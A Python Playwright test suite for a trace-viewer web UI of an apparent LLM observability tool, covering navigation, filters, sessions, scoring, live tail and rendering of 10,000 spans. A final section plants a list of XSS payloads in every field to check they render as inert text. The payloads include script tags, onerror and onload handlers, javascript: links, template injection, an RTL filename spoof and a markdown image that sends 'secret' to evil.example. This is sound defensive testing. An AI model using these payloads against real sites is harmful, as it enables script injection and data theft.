"""The Traces place in a browser: from the list to a span, ten thousand spans, live tail, hostile texts."""

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable

import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.trace.v1.trace_pb2 import Span
from playwright.sync_api import Page, expect

from browser.conftest import Watch
from serving import Server


class Sender:
    """Spans of one trace over OTLP."""

    def __init__(self, application: str = "support-desk") -> None:
        self.request = ExportTraceServiceRequest()
        group = self.request.resource_spans.add()
        group.resource.attributes.add(key="service.name").value.string_value = application
        self._spans = group.scope_spans.add()
        self.trace_id = os.urandom(16)
        self._now = time.time_ns() - 20 * 10**9

    def span(
        self,
        name: str,
        parent: Span | None = None,
        *,
        after_s: float = 0.0,
        took_s: float = 1.0,
        **attributes: str | int,
    ) -> Span:
        start = self._now + int(after_s * 1e9)
        span = self._spans.spans.add(
            trace_id=self.trace_id,
            span_id=os.urandom(8),
            parent_span_id=parent.span_id if parent is not None else b"",
            name=name,
            start_time_unix_nano=start,
            end_time_unix_nano=start + int(took_s * 1e9),
        )
        self.tell(span, {key.replace("__", "."): value for key, value in attributes.items()})
        return span

    def tell(self, span: Span, attributes: dict[str, str | int]) -> None:
        for key, value in attributes.items():
            told = span.attributes.add(key=key).value
            if isinstance(value, int):
                told.int_value = value
            else:
                told.string_value = value

    def call(self, name: str, parent: Span | None, asked: str, answered: str, **options: float) -> Span:
        """A call of a model."""
        return self.span(
            name,
            parent,
            after_s=options.get("after_s", 0.1),
            took_s=options.get("took_s", 0.5),
            gen_ai__operation__name="chat",
            gen_ai__provider__name="openai",
            gen_ai__request__model="gpt-4o",
            gen_ai__usage__input_tokens=1000,
            gen_ai__usage__output_tokens=100,
            gen_ai__input__messages=_messages("user", asked),
            gen_ai__output__messages=_messages("assistant", answered),
        )

    def send(self, server: Server) -> str:
        """Sends what was made since it was last called."""
        assert server.send(self.request.SerializeToString()).status == 200
        del self._spans.spans[:]
        return self.trace_id.hex()


def _messages(role: str, text: str) -> str:
    return json.dumps([{"role": role, "parts": [{"type": "text", "content": text}]}])


def ticket(server: Server, asked: str = "Where is my order?", *, session: str = "s-1") -> str:
    """A trace of a support desk: an agent, a retrieval that fails, and a call of a model."""
    sender = Sender()
    root = sender.span(
        "answer_ticket",
        took_s=4.0,
        gen_ai__operation__name="invoke_agent",
        gen_ai__conversation__id=session,
        gen_ai__input__messages=_messages("user", asked),
    )
    retrieve = sender.span("retrieve", root, after_s=0.1, took_s=0.2)
    failed = sender.span("search", retrieve, after_s=0.1, took_s=0.1)
    failed.status.code, failed.status.message = 2, "the index is being built"
    sender.call("draft", root, asked, "It is on its way.", after_s=0.4, took_s=3.0)
    return sender.send(server)


def test_a_reader_goes_from_the_list_to_a_span_and_back(server: Server, page: Page) -> None:
    ticket(server)
    ticket(server, "Can I have two owners?")

    page.goto("/traces?range=1h")

    expect(page.get_by_role("heading", level=1)).to_contain_text("2 traces in the last")
    page.get_by_role("option", name="Where is my order?").click()
    beside = page.get_by_role("complementary", name="The open trace")
    expect(beside.get_by_role("treeitem")).to_have_count(4)
    beside.get_by_role("treeitem", name="draft").click()
    detail = page.get_by_role("region", name="Span draft")
    expect(detail).to_contain_text("It is on its way.")
    expect(detail).to_contain_text("1,000 in × $2.50 + 100 out × $10.00 per million = $0.0035")

    page.go_back()
    expect(beside).not_to_be_visible()
    expect(page).to_have_url(f"{server.url}/traces?range=1h")


def test_what_is_open_is_in_the_address(server: Server, page: Page) -> None:
    trace = ticket(server)
    page.goto(f"/traces?range=1h&filter=application%3Dsupport-desk&trace={trace}&view=conversation")

    expect(page.get_by_text("application:support-desk")).to_be_visible()
    expect(page.get_by_role("button", name="Conversation")).to_have_attribute("aria-pressed", "true")
    expect(page.get_by_role("article")).to_contain_text("It is on its way.")


def test_a_filter_is_completed_set_and_taken_away(server: Server, page: Page) -> None:
    ticket(server)
    other = Sender("mailer")
    other.span("send_mail")
    other.send(server)
    page.goto("/traces?range=1h")
    expect(page.get_by_role("option")).to_have_count(2)

    page.get_by_label("Filter").fill("appl")
    page.get_by_role("option", name="application").first.click()
    page.get_by_role("listbox", name="Completions").get_by_text("mailer").click()

    expect(page.get_by_role("heading", level=1)).to_contain_text("Your filter keeps 1.")
    expect(page.get_by_role("listbox", name="traces").get_by_role("option")).to_have_count(1)
    page.get_by_role("button", name="Remove application:mailer").click()
    expect(page.get_by_role("listbox", name="traces").get_by_role("option")).to_have_count(2)


def test_a_filter_that_is_none_says_why(server: Server, page: Page) -> None:
    ticket(server)
    page.goto("/traces?range=1h")

    page.get_by_label("Filter").fill("cost>much")
    page.keyboard.press("Enter")

    expect(page.get_by_role("alert")).to_contain_text("cost takes dollars")


def test_a_model_inside_leads_to_its_spans(server: Server, page: Page) -> None:
    ticket(server)
    page.goto("/traces?range=1h")

    page.get_by_role("group", name="Facets").get_by_role("button", name="gpt-4o").click()

    expect(page).to_have_url(re.compile("tab=spans"))
    expect(page.get_by_role("listbox", name="spans").get_by_role("option")).to_have_count(1)
    expect(page.get_by_role("option", name="draft")).to_be_visible()


def test_words_find_the_traces_that_have_them(server: Server, page: Page) -> None:
    ticket(server)
    ticket(server, "Delete my account please")
    assert server.ask("/api/v1/search?text=account&wait=10").json["items"]
    page.goto("/traces?range=1h")

    page.get_by_label("Filter").fill('"my account"')
    page.keyboard.press("Enter")

    expect(page.get_by_role("listbox", name="traces").get_by_role("option")).to_have_count(1)
    expect(page.get_by_role("option", name="Delete my account please")).to_be_visible()


def test_drawing_over_the_counts_chooses_a_stretch_of_time(server: Server, page: Page) -> None:
    ticket(server)
    page.goto("/traces?range=1h")
    bars = page.get_by_role("img", name="1 trace over time")
    box = bars.bounding_box()
    assert box is not None

    page.mouse.move(box["x"] + 10, box["y"] + 10)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 10, steps=4)
    page.mouse.up()

    expect(page).to_have_url(re.compile(r"range=2\d{3}-.*\.\.2\d{3}-"))
    expect(page.get_by_role("heading", level=1)).to_contain_text("No traces in this time.")
    page.go_back()
    expect(page.get_by_role("option", name="Where is my order?")).to_be_visible()


def test_the_list_is_walked_with_the_keyboard_and_saved(server: Server, page: Page) -> None:
    for asked in ("First?", "Second?", "Third?"):
        ticket(server, asked)
    page.goto("/traces?range=1h")
    rows = page.get_by_role("listbox", name="traces").get_by_role("option")
    expect(rows).to_have_count(3)

    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(page.get_by_role("option", name="Second?")).to_have_attribute("aria-selected", "true")
    expect(page.get_by_role("complementary", name="The open trace")).to_be_visible()
    page.keyboard.press("x")
    expect(page.get_by_role("button", name="add 1 to a dataset")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("complementary", name="The open trace")).not_to_be_visible()

    with page.expect_download() as download:
        page.get_by_role("link", name="CSV").click()
    assert [line.count("?") for line in download.value.path().read_text().splitlines()] == [0, 1, 1, 1]


def test_the_waterfall_is_walked_with_the_keyboard(server: Server, page: Page) -> None:
    trace = ticket(server)
    page.goto(f"/traces/{trace}")
    chosen = page.locator("[role=treeitem][aria-selected=true]")
    expect(chosen).to_contain_text("search")  # what failed is open

    page.keyboard.press("k")
    expect(chosen).to_contain_text("retrieve")
    page.keyboard.press("h")
    expect(page.get_by_role("treeitem")).to_have_count(3)
    page.keyboard.press("j")
    expect(chosen).to_contain_text("draft")
    page.keyboard.press("!")
    expect(chosen).to_contain_text("search")
    expect(page.get_by_role("treeitem")).to_have_count(4)
    page.keyboard.press("$")
    expect(chosen).to_contain_text("draft")


def test_a_session_is_told_turn_by_turn(server: Server, page: Page) -> None:
    ticket(server, "Where is my order?", session="s/42 ü")
    ticket(server, "And the other one?", session="s/42 ü")
    page.goto("/traces?range=1h&tab=sessions")

    page.get_by_role("option", name="s/42 ü").click()

    expect(page.get_by_role("heading", level=1)).to_contain_text("2 turns, $0.0070")
    expect(page.get_by_role("region", name="Turn 2")).to_contain_text("And the other one?")


def test_a_score_is_given_and_taken_back(server: Server, page: Page) -> None:
    trace = ticket(server)
    page.goto(f"/traces/{trace}?span=")
    expect(page.get_by_role("treeitem")).to_have_count(4)
    page.get_by_role("treeitem", name="answer_ticket").click()

    page.keyboard.press("e")
    page.get_by_role("button", name="yes").click()
    page.get_by_role("dialog").get_by_role("button", name="Score").click()

    expect(page.get_by_text("Scored quality yes.")).to_be_visible()
    (score,) = server.ask(f"/api/v1/scores?trace_id={trace}").json
    assert (score["name"], score["value"], score["source"], score["span_id"]) == ("quality", True, "human", None)
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_text("The score is gone.")).to_be_visible()
    assert server.ask(f"/api/v1/scores?trace_id={trace}").json == []


def test_the_live_tail_shows_a_trace_of_the_sdk_and_can_be_paused(server: Server, page: Page) -> None:
    page.goto("/traces?range=1h")
    expect(page.get_by_role("button", name="Live")).to_be_visible()
    program = page.get_by_label("Python that sends a trace").inner_text()

    environment = {name: value for name, value in os.environ.items() if not name.startswith("BOXSCORE_")}
    subprocess.run([sys.executable, "-c", program], env=environment, check=True, cwd=server.home.parent)
    rows = page.get_by_role("listbox", name="traces").get_by_role("option")
    expect(rows).to_have_count(1)

    page.locator("body").press(" ")
    ticket(server)
    expect(page.get_by_role("button", name="Paused · 1 new")).to_be_visible()
    expect(rows).to_have_count(1)
    page.get_by_role("button", name="Paused · 1 new").click()
    expect(rows).to_have_count(2)
    expect(rows.first).to_contain_text("Where is my order?")


def test_a_trace_that_is_not_here_says_so(server: Server, page: Page, watch: Watch) -> None:
    watch.allow("404")
    page.goto(f"/traces/{'ab' * 16}")

    expect(page.get_by_text("is still on its way")).to_be_visible(timeout=10_000)


def test_an_empty_place_says_what_fills_it(server: Server, page: Page) -> None:
    page.goto("/traces")

    expect(page.get_by_text("Three lines make the first one")).to_be_visible()
    expect(page.get_by_label("Python that sends a trace")).to_contain_text(server.url)


LONG = 10_000


def long_trace(server: Server) -> str:
    sender = Sender("crawler")
    above: list[Span] = []
    for place in range(LONG):
        parent = above[(place - 1) // 6] if place else None
        span = sender.span("crawl" if place == 0 else f"step {place % 40}", parent, after_s=place / 2000, took_s=0.3)
        above.append(Span(span_id=span.span_id))
        if len(above) % 2000 == 0:
            sender.send(server)
    return sender.trace_id.hex()


SCROLL = """async () => {
  const long = [];
  const look = new PerformanceObserver(list => long.push(...list.getEntries().map(one => Math.round(one.duration))));
  look.observe({type: 'longtask'});
  const box = document.querySelector('[role=tree]');
  let most = 0;
  for (let step = 0; step < 150; step++) {
    box.scrollTop += 1700;
    await new Promise(done => requestAnimationFrame(done));
    most = Math.max(most, document.querySelectorAll('*').length);
  }
  await new Promise(done => setTimeout(done, 100));
  return {long, most, at: box.scrollTop};
}"""


def test_ten_thousand_spans_open_and_scroll(
    server: Server, page: Page, record_property: Callable[[str, object], None]
) -> None:
    trace = long_trace(server)
    page.goto("/traces")
    began = time.perf_counter()
    page.goto(f"/traces/{trace}")
    expect(page.get_by_role("treeitem").first).to_be_visible()
    record_property("opened_s", round(time.perf_counter() - began, 2))

    expect(page.get_by_role("article").get_by_text("10,000 spans")).to_be_visible()
    scrolled = page.evaluate(SCROLL)
    record_property("tasks_over_50_ms", scrolled["long"])
    record_property("dom_elements", scrolled["most"])
    assert scrolled["at"] > 200_000
    assert scrolled["most"] <= 1_500
    assert max(scrolled["long"], default=0) < 500  # the goal is none over 50 ms; a busy machine may add to it


HOSTILE = [
    "<script>window.hurt = 1</script>",
    "<img src=https://evil.example/x.png onerror='window.hurt = 1'>",
    "![x](https://evil.example/leak?q=secret)",
    "[click](javascript:window.hurt=1)",
    "<svg/onload=window.hurt=1>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+",
    "javascript:window.hurt=1",
    "{{constructor.constructor('window.hurt=1')()}}",
    "\u202egnp.exe",
]


@pytest.fixture
def hostile(server: Server) -> str:
    """A trace that has each hostile text wherever somebody else's text can be."""
    sender = Sender(HOSTILE[1])
    root = sender.span(HOSTILE[0], gen_ai__conversation__id=HOSTILE[4], user__id=HOSTILE[2], took_s=3.0)
    for text in HOSTILE:
        span = sender.call(text, root, text, text)
        sender.tell(span, {text: text, "file.name": text, "metadata.note": text})
        span.status.code, span.status.message = 2, text
        event = span.events.add(name=text, time_unix_nano=span.start_time_unix_nano)
        event.attributes.add(key=text).value.string_value = text
        tool = sender.span(text, root, gen_ai__operation__name="execute_tool")
        called = {"role": "assistant", "parts": [{"type": "tool_call", "name": text, "arguments": {text: text}}]}
        image = {"role": "user", "parts": [{"type": "uri", "modality": "image", "uri": text}]}
        sender.tell(tool, {"gen_ai.tool.name": text, "gen_ai.tool.call.arguments": json.dumps({text: text})})
        sender.tell(span, {"gen_ai.system_instructions": json.dumps([{"type": "text", "content": text}])})
        calls = sender.span("agent", root, gen_ai__operation__name="chat", gen_ai__request__model=text)
        sender.tell(calls, {"gen_ai.input.messages": json.dumps([called, image])})
    trace = sender.send(server)
    score = {"id": "s", "name": "x/b", "value": HOSTILE[1], "trace_id": trace, "comment": HOSTILE[0], "at_ns": 1}
    body = json.dumps([score]).encode()
    assert server.ask("/api/v1/scores", body, {"content-type": "application/json"}).status == 200
    return trace


UNFOLD = "document.querySelectorAll('details').forEach(one => { one.open = true; })"


@pytest.mark.parametrize("view", ["waterfall", "conversation", "raw"])
def test_hostile_texts_are_shown_as_text_on_the_page_of_a_trace(page: Page, hostile: str, view: str) -> None:
    page.goto(f"/traces/{hostile}?view={view}")
    expect(page.get_by_role("heading", level=1)).to_contain_text("<script>")
    if view == "waterfall":
        for place in range(page.get_by_role("treeitem").count()):
            page.get_by_role("treeitem").nth(place).click()
            expect(page.get_by_role("treeitem").nth(place)).to_have_attribute("aria-selected", "true")
            page.wait_for_load_state("networkidle")
            page.evaluate(UNFOLD)
    page.evaluate(UNFOLD)
    expect(page.locator("main")).to_contain_text("evil.example")

    assert_harmless(page)


@pytest.mark.parametrize("rows", ["traces", "spans", "sessions"])
def test_hostile_texts_are_shown_as_text_in_lists(page: Page, hostile: str, rows: str) -> None:
    page.goto(f"/traces?range=1h&tab={rows}")
    expect(page.get_by_role("option").first).to_be_visible()
    if rows != "sessions":
        expect(page.get_by_role("group", name="Facets")).to_contain_text("<")

    assert_harmless(page)


def test_hostile_texts_are_shown_as_text_in_a_session(page: Page, hostile: str) -> None:
    page.goto("/traces?range=1h&tab=sessions")
    page.get_by_role("option").first.click()
    expect(page.get_by_role("region", name="Turn 1")).to_contain_text("evil.example")

    assert_harmless(page)


ADDRESSES = "links => links.map(link => new URL(link.getAttribute('href'), location.href).href)"
"""Of links in drawings too, whose `href` is no text."""


def assert_harmless(page: Page) -> None:
    """Nothing ran, nothing of another's making stands in the page, and no address of theirs can be clicked."""
    assert page.evaluate("window.hurt") is None
    assert page.locator("main img, main iframe, main script, main object, main video, main audio").count() == 0
    addresses = page.locator("a[href]").evaluate_all(ADDRESSES)
    assert [address for address in addresses if not address.startswith(page.evaluate("location.origin"))] == []
    assert "\u202e" not in page.locator("main").inner_text()
